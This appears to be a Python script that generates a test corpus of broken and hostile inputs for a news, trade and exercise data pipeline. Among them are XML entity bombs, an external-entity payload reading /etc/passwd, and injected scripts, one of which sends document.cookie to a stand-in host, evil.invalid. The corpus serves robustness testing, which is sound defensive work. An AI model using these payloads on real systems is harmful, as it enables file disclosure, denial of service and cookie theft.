"""Writes the bad-input corpus: one file per case, next to this script (``cases.yml`` says what each
must do). Deterministic (the random bytes come from a seeded generator); ``test_corpus.py`` checks
that the committed files are exactly what this writes. Run it after changing a case:

    .venv/bin/python tests/corpus/make_cases.py

Provenance: the *good* material is cut from the bundled samples (US-government public-domain text,
MME v7, the curated reference tables, Census API responses rebuilt from published figures; see
``samples/*/README.md``). Everything hostile or broken about a case (truncations, bombs, wrong
encodings, bad values, ids starting ``CORPUS_``, hosts under ``.invalid``) is synthetic, written here.
"""

from __future__ import annotations

import codecs
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
SAMPLES = REPO / "samples"
SEED = 8
CANONICAL = "https://corpus.alliance-warehouse.invalid/articles/"

# ------------------------------------------------------------------------------------- articles

_PAGE = (SAMPLES / "commentary/pages/2021-07-12_indopacom-exercise-orient-shield-breaks-boundaries.html").read_text("utf-8")
_PAGE_CANONICAL = "https://www.pacom.mil/Media/News/News-Article-View/Article/2691493/exercise-orient-shield-breaks-boundaries/"


def page(slug: str, *, published: str | None = "2021-07-12", title: str | None = None) -> str:
    """The real Orient Shield page, with its own canonical URL (so it never replaces a sample row)."""
    html = _PAGE.replace(_PAGE_CANONICAL, CANONICAL + slug)
    if published is None:
        html = html.replace('<meta property="article:published_time" content="2021-07-12">\n', "")
    else:
        html = html.replace('content="2021-07-12"', f'content="{published}"')
    if title is not None:
        html = html.replace("Exercise Orient Shield Breaks Boundaries", title)
    return html


def feed(items: list[tuple[str, str, str]], *, decl: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
         doctype: str = "", channel_title: str = "Corpus feed") -> str:
    """An RSS 2.0 feed; items are (title, link, pubDate)."""
    body = "".join(f"<item><title>{t}</title><link>{link}</link><pubDate>{d}</pubDate></item>\n"
                   for t, link, d in items)
    return (f"{decl}{doctype}<rss version=\"2.0\"><channel><title>{channel_title}</title>"
            f"<link>https://corpus.alliance-warehouse.invalid/</link>\n{body}</channel></rss>\n")


OK_ITEMS = [("Orient Shield A", "pages/ok_a.html", "Mon, 12 Jul 2021 12:00:00 +0000"),
            ("Orient Shield B", "pages/ok_b.html", "Mon, 12 Jul 2021 12:00:00 +0000")]
_REAL_FEED = (SAMPLES / "commentary/feed.xml").read_bytes()
_LAUGHS = ('<!DOCTYPE rss [\n <!ENTITY lol "lol">\n'
           + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
           + "]>\n")
_SCRIPT_PAGE = page("script-tags", title="Orient Shield <script>alert('title')</script>").replace(
    "<body class=\"article-page\">",
    "<body class=\"article-page\" onload=\"alert('onload')\"><script>alert('xss');document.cookie</script>").replace(
    "</article>", "<script>fetch('https://evil.invalid/?c='+document.cookie)</script>"
                  "<p><img src=x onerror=\"alert('img')\">The alliance text continues after an injected image.</p></article>")


def _deep(n: int) -> str:
    return page("deeply-nested").replace("</article>", "<div>" * n + "deep" + "</div>" * n + "</article>")


# --------------------------------------------------------------------------------------- census

_EXPORTS = (SAMPLES / "census_trade/exports_hs.json").read_text("utf-8")
_HEADER = '["CTY_CODE","CTY_NAME","ALL_VAL_MO","E_COMMODITY","time","CTY_CODE","COMM_LVL"]'


def census(rows: list[str], header: str = _HEADER) -> str:
    return "[" + header + ",\n" + ",\n".join(rows) + "]\n"


def crow(value: str = '"5639200000"', time: str = '"2024-01"', cty: str = '"5880"') -> str:
    return f'[{cty},"JAPAN",{value},"-",{time},{cty},"HS2"]'


# ----------------------------------------------------------------------------------- csv tables

_TARIFF_HEADER = ("action_id,title,instrument,imposing,affected,product_scope,rate_pct,announced_on,effective_on,"
                  "ended_on,legal_citation,status_note,source_url")


def tariffs(*rows: str, header: str = _TARIFF_HEADER) -> str:
    return header + "\n" + "".join(r + "\n" for r in rows)


def trow(action_id: str = "CORPUS_STEEL", rate: str = "25", announced: str = "2018-03-08", title: str = "Steel") -> str:
    return (f"{action_id},{title},section_232,USA,ALL,steel,{rate},{announced},2018-03-23,,"
            "Proc. 9705,corpus row,https://corpus.alliance-warehouse.invalid/tariffs")


_EX_HEADER = "exercise_id,name,series,participants,location,start_date,end_date,status,announced_on,note,source_url"


def erow(exercise_id: str = "CORPUS_EX", start: str = "2019-03-04", end: str = "2019-03-12",
         note: str = "corpus row") -> str:
    return (f"{exercise_id},Corpus exercise,Corpus,USA;JPN,Japan,{start},{end},held,,{note},"
            "https://corpus.alliance-warehouse.invalid/exercises")


# ------------------------------------------------------------------------------------------ MME

_MME = (SAMPLES / "reference/exercises/mme_v7.csv").read_text("utf-8").splitlines(keepends=True)
# Their own ids (mmecorpus87, ...): the key of raw.exercises is global, so the real ids would replace the sample's rows.
_MME_HEADER, _MME_ROWS = _MME[0], [r.replace("mme", "mmecorpus", 1) for r in _MME[1:6]]


def mme(*rows: str, header: str = _MME_HEADER) -> str:
    return header + "".join(rows)


def mme_edit(row: str, old: str, new: str) -> str:
    assert old in row, (old, row)
    return row.replace(old, new, 1)


# ---------------------------------------------------------------------------------------- cases

def cases() -> dict[str, bytes | str]:
    """relative path -> content (str is written as UTF-8)."""
    rng = random.Random(SEED)
    latin1_items = [("Orient Shield \u00e9t\u00e9", "pages/ok_a.html", OK_ITEMS[0][2])]
    out: dict[str, bytes | str] = {
        # --- rss: pages every feed case links to
        "rss/pages/ok_a.html": page("ok-a"),
        "rss/pages/ok_b.html": page("ok-b"),
        "rss/pages/no_date.html": page("no-date", published=None),
        # --- rss feeds (through the real extract: feed, then each linked page)
        "rss/feed_ok.xml": feed(OK_ITEMS),
        "rss/feed_truncated.xml": _REAL_FEED[: len(_REAL_FEED) * 3 // 5],
        "rss/feed_mismatched_tags.xml": feed(OK_ITEMS).replace("</title>", "</titel>", 1),
        "rss/feed_billion_laughs.xml": feed([("&lol9;", "pages/ok_a.html", OK_ITEMS[0][2])], doctype=_LAUGHS),
        "rss/feed_quadratic_blowup.xml": feed([("&big;" * 2000, "pages/ok_a.html", OK_ITEMS[0][2])],
                                              doctype=f'<!DOCTYPE rss [<!ENTITY big "{"x" * 50_000}">]>\n'),
        "rss/feed_external_entity.xml": feed([("&xxe;", "pages/ok_a.html", OK_ITEMS[0][2])],
                                             doctype='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'),
        "rss/feed_empty.xml": b"",
        "rss/feed_whitespace_only.xml": b" \n\t\r\n",
        "rss/feed_is_html.xml": page("not-a-feed"),
        "rss/feed_wrong_root.xml": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><title>no</title></svg>\n',
        "rss/feed_is_json.xml": '{"items": [{"title": "Orient Shield", "link": "pages/ok_a.html"}]}\n',
        "rss/feed_utf8_bom.xml": codecs.BOM_UTF8 + feed(OK_ITEMS).encode("utf-8"),
        "rss/feed_utf16.xml": feed(OK_ITEMS, decl='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"),
        "rss/feed_latin1_declared.xml": feed(latin1_items, decl='<?xml version="1.0" encoding="ISO-8859-1"?>\n').encode("latin-1"),
        "rss/feed_latin1_undeclared.xml": feed(latin1_items, decl='<?xml version="1.0"?>\n').encode("latin-1"),
        "rss/feed_mixed_encodings.xml": feed(OK_ITEMS).encode("utf-8").replace(b"Orient Shield A", "Orient Shield \u00e9".encode("latin-1")),
        "rss/feed_duplicate_items.xml": feed(OK_ITEMS + OK_ITEMS[:1]),
        "rss/feed_unsafe_links.xml": feed([("Script link", "javascript:alert(1)", OK_ITEMS[0][2]),
                                           ("Data link", "data:text/html,<script>alert(1)</script>", OK_ITEMS[0][2]),
                                           ("No link", "", OK_ITEMS[0][2])] + OK_ITEMS[:1]),
        "rss/feed_missing_page.xml": feed([("Gone", "pages/does_not_exist.html", OK_ITEMS[0][2])] + OK_ITEMS[:1]),
        "rss/feed_no_dates.xml": feed([("Undated", "pages/no_date.html", "")] + OK_ITEMS[1:]),
        "rss/feed_future_date.xml": feed([("From the future", "pages/ok_a.html", "Tue, 01 Jan 2999 12:00:00 +0000")]
                                         + OK_ITEMS[1:]),
        "rss/feed_ancient_date.xml": feed([("From the past", "pages/ok_a.html", "Sat, 14 Oct 1066 12:00:00 +0000")]
                                          + OK_ITEMS[1:]),
        "rss/feed_oversized.xml": feed(OK_ITEMS[:1], channel_title="Corpus " + "padding " * 4000),
        # --- rss pages (parsed as the page payloads extract yields)
        "rss/page_script_tags.html": _SCRIPT_PAGE,
        "rss/page_truncated.html": page("truncated")[: len(page("truncated")) * 2 // 3],
        "rss/page_malformed_nesting.html": page("malformed").replace("<p>", "<p><b><i>", 3).replace("</p>", "</b></p></div>", 2),
        "rss/page_empty.html": b"",
        "rss/page_no_article.html": "<html><body><nav><a href='/'>Home</a></nav><p>Accept cookies.</p></body></html>",
        "rss/page_shift_jis.html": ("<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"shift_jis\">"
                                    "<title>日米同盟</title><meta property=\"article:published_time\" content=\"2021-07-12\">"
                                    f"<link rel=\"canonical\" href=\"{CANONICAL}shift-jis\"></head><body><article><h1>日米同盟</h1>"
                                    + "<p>日米同盟はインド太平洋地域の平和と安定の礎である。両国は共同訓練を通じて抑止力を強化している。</p>" * 4
                                    + "</article></body></html>").encode("cp932"),
        "rss/page_wrong_declared_charset.html": page("wrong-charset").replace('<meta charset="utf-8">', '<meta charset="iso-8859-1">')
                                                .replace("Japan", "Japan \u2013 \u65e5\u672c", 3),
        "rss/page_utf16.html": page("utf-16").replace('<meta charset="utf-8">', "").encode("utf-16"),
        "rss/page_entity_bomb.html": '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                                     + page("entity-bomb").split("\n", 1)[1].replace("</article>", "<p>&b;&b;&b;&b;</p></article>"),
        "rss/page_binary_garbage.html": bytes(rng.getrandbits(8) for _ in range(4096)),
        "rss/page_deeply_nested.html": _deep(3000),
        "rss/page_future_date.html": page("future-date", published="2999-01-01"),
        # --- census_trade (one API response each)
        "census_trade/ok.json": _EXPORTS,
        "census_trade/truncated.json": _EXPORTS[: len(_EXPORTS) // 2],
        "census_trade/html_error_page.json": "<html><head><title>Error report</title></head><body><h1>HTTP Status 400 - error: unknown variable 'ALL_VAL_M'</h1></body></html>\n",
        "census_trade/plain_text_error.json": "error: unknown/unsupported geography hierarchy\n",
        "census_trade/object_not_array.json": '{"error": "no data", "status": 400}\n',
        "census_trade/empty.json": b"",
        "census_trade/missing_column.json": census([crow().replace(',"2024-01"', "")],
                                                   header=_HEADER.replace(',"time"', "")),
        "census_trade/extra_column.json": census([crow().replace('"HS2"]', '"HS2","extra"]')],
                                                 header=_HEADER.replace('"COMM_LVL"]', '"COMM_LVL","UNIT_QY1"]')),
        "census_trade/wrong_types.json": census([crow(), crow(value='"N/A"', time='"2024-02"'), crow(value="null", time='"2024-03"'),
                                                 crow(value='"1e400"', time='"2024-04"'), crow(time='"2024-05"', value="123")]),
        "census_trade/ragged_rows.json": census([crow(), '["5880","JAPAN","1","-","2024-02"]', crow(time='"2024-03"')]),
        "census_trade/duplicate_keys.json": census([crow(), crow(value='"1"'), crow(time='"2024-02"')]),
        "census_trade/bad_months.json": census([crow(), crow(time='"2024-13"'), crow(time='"24-01"'), crow(time='"2024-02"')]),
        "census_trade/future_period.json": census([crow(), crow(time='"2999-01"')]),
        "census_trade/unknown_country.json": census([crow(), crow(cty='"9999"', time='"2024-02"')]),
        "census_trade/deeply_nested.json": "[" * 50_000 + "]" * 50_000,
        "census_trade/utf8_bom.json": codecs.BOM_UTF8 + census([crow(), crow(time='"2024-02"')]).encode("utf-8"),
        "census_trade/utf16.json": census([crow()]).encode("utf-16"),
        # --- csv_table: tariff actions
        "csv_table/tariffs_ok.csv": tariffs(trow(), trow("CORPUS_ALUMINUM", "10", title="Aluminum")),
        "csv_table/tariffs_utf8_bom.csv": codecs.BOM_UTF8 + tariffs(trow()).encode("utf-8"),
        "csv_table/tariffs_cp1252.csv": tariffs(trow(title="Acier \u00e9tranger")).encode("cp1252"),
        "csv_table/tariffs_utf16.csv": tariffs(trow()).encode("utf-16"),
        "csv_table/tariffs_missing_key_column.csv": tariffs("Steel,section_232,USA,ALL,steel,25,2018-03-08,,,,,,",
                                                            header=_TARIFF_HEADER.replace("action_id,", "")),
        "csv_table/tariffs_extra_column.csv": tariffs(trow() + ",surprise", header=_TARIFF_HEADER + ",analyst_comment"),
        "csv_table/tariffs_duplicate_header.csv": tariffs(trow() + ",25", header=_TARIFF_HEADER + ",rate_pct"),
        "csv_table/tariffs_wrong_types.csv": tariffs(trow(), trow("CORPUS_WORDS", "twenty-five"),
                                                     trow("CORPUS_BAD_DATE", announced="2018-13-45"),
                                                     trow("CORPUS_SLASH_DATE", announced="03/08/2018")),
        "csv_table/tariffs_ragged_rows.csv": tariffs(trow(), "CORPUS_SHORT,too short", trow("CORPUS_LONG") + ",x,y"),
        "csv_table/tariffs_unclosed_quote.csv": tariffs(trow(), trow("CORPUS_QUOTE", title='"Steel, unclosed')),
        "csv_table/tariffs_empty.csv": b"",
        "csv_table/tariffs_header_only.csv": tariffs(),
        "csv_table/tariffs_duplicate_keys.csv": tariffs(trow(), trow(rate="50"), trow("CORPUS_OTHER")),
        "csv_table/tariffs_future_date.csv": tariffs(trow(), trow("CORPUS_FUTURE", announced="2999-01-01")),
        "csv_table/tariffs_ancient_date.csv": tariffs(trow(), trow("CORPUS_ANCIENT", announced="0001-01-01")),
        "csv_table/tariffs_huge_field.csv": tariffs(trow(), trow("CORPUS_HUGE", title="x" * 140_000)),
        "csv_table/tariffs_nul_byte.csv": tariffs(trow(), trow("CORPUS_NUL", title="Ste\x00el")),
        "csv_table/exercises_script_note.csv": _EX_HEADER + "\n" + erow(note="<script>alert(1)</script> planned") + "\n",
        "csv_table/exercises_ok.csv": _EX_HEADER + "\n" + erow("CORPUS_EX_OK") + "\n",
        # --- mme_exercises
        "mme_exercises/ok.csv": mme(*_MME_ROWS),
        "mme_exercises/missing_columns.csv": "MMEID,Ex_Name,Location\nmme1,Test,Nowhere\n",
        "mme_exercises/unknown_state.csv": mme(_MME_ROWS[0], mme_edit(_MME_ROWS[1], "Egypt,United States", "Egypt,Atlantis")),
        "mme_exercises/bad_dates.csv": mme(_MME_ROWS[0], mme_edit(_MME_ROWS[1], "1980,1,xx", "1980,13,xx"),
                                           mme_edit(_MME_ROWS[2], ",1980,", ",19x0,")),
        "mme_exercises/duplicate_ids.csv": mme(_MME_ROWS[0], _MME_ROWS[1], mme_edit(_MME_ROWS[1], "Saudi Arabian skies", "Saudi Arabian skies (again)")),
        "mme_exercises/latin1.csv": mme(*_MME_ROWS[:2]).replace("Vieques", "Vi\u00e9ques").encode("latin-1"),
        "mme_exercises/huge_field.csv": mme(_MME_ROWS[0], mme_edit(_MME_ROWS[1], "anticipation", "x" * 140_000)),
        "mme_exercises/future_year.csv": mme(_MME_ROWS[0], mme_edit(_MME_ROWS[1], "1980,1,xx,1980-01-xx,1980,1,xx",
                                                                    "2999,1,xx,2999-01-xx,2999,1,xx")),
    }
    return out


def write(dest: Path = HERE) -> list[Path]:
    written = []
    for rel, content in cases().items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        written.append(path)
    return written


if __name__ == "__main__":
    print(f"wrote {len(write())} files under {HERE}")
